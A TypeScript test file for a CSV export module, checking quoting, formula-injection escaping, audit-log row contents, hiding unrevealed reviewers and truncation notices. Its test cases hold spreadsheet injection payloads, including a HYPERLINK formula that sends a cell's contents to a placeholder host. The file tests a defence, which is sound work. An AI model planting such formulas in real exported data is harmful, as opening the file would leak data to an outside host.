import fc from 'fast-check';
import { exampleEvent } from './__testUtils__/exampleLog';
import { csvCell, csvHeaderRow, csvRow, writeCsvList } from './csv';

/** A plain RFC 4180 reader of one row: the oracle. */
function readRow(row: string): string[] {
  const cells: string[] = [];
  let rest = row.replace(/\r\n$/, '');
  for (;;) {
    const match = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|$)/.exec(rest);
    if (!match) {
      throw new Error(`No CSV: ${rest}`);
    }
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2]);
    if (match[3] === '') {
      return cells;
    }
    rest = rest.slice(match[0].length);
  }
}

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['a"b', '"a""b"'],
    ['a\nb', '"a\nb"'],
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['\0=1', `"'\0=1"`],
    ["'quoted", `"''quoted"`],
    ['1-1', '1-1'],
    ['=HYPERLINK("http://x?"&A1,"y")', `"'=HYPERLINK(""http://x?""&A1,""y"")"`],
  ])('writes %j as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('never begins a cell as a formula, and never gives one cell to two values', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (a, b) => {
        const [cell] = readRow(csvCell(a));
        expect(cell).not.toMatch(/^[=+\-@\t\r\n\0]/);
        expect(cell.replace(/^'/, '')).toBe(a.replace(/^'/, "'"));
        expect(csvCell(a) === csvCell(b)).toBe(a === b);
      }),
    );
  });
});

describe('csvRow', () => {
  it('has a cell for each column', () => {
    const columns = readRow(csvHeaderRow());
    const cells = readRow(csvRow(exampleEvent(2)));
    expect(
      Object.fromEntries(columns.map((column, i) => [column, cells[i]])),
    ).toMatchObject({
      seq: '2',
      type: 'promotion.approved',
      actorKind: 'user',
      actor: 'person-2',
      person: 'user:default/reviewer-one',
      chatbot: 'faq-bot',
      texts: '{"comment":"Looks good, fine fine \\"ok\\""}',
      demo: '',
    });
    expect(cells).toHaveLength(columns.length);
  });

  it('names no person that is not revealed', () => {
    const row = csvRow(exampleEvent(2, false));
    expect(row).not.toContain('reviewer');
    expect(row).not.toContain('Looks good');
  });

  it('marks example data', () => {
    expect(readRow(csvRow(exampleEvent(3)))).toContain('true');
  });
});

describe('writeCsvList', () => {
  async function* inPages(...pages: string[][]) {
    yield* pages;
  }
  const write = async (limit: number, ...pages: string[][]) => {
    let text = '';
    for await (const part of writeCsvList({
      columns: { title: title => title, length: ({ length }) => `${length}` },
      pages: inPages(...pages),
      limit,
      describeRest: written => `Cut here: the first ${written}`,
    })) {
      text += part;
    }
    return text;
  };

  it('opens in a spreadsheet with its letters, and runs nothing', async () => {
    expect(await write(9, ['Übersicht'], ['=1+1'])).toBe(
      `\ufefftitle,length\r\nÜbersicht,9\r\n"'=1+1",4\r\n`,
    );
  });

  it('says in its last row that it was cut, and reads no further', async () => {
    expect(await write(2, ['a', 'b'], ['c', 'd'])).toMatch(
      /b,1\r\nCut here: the first 2,\r\n$/,
    );
    expect(await write(2, ['a', 'b'], [])).not.toContain('Cut');
  });
});
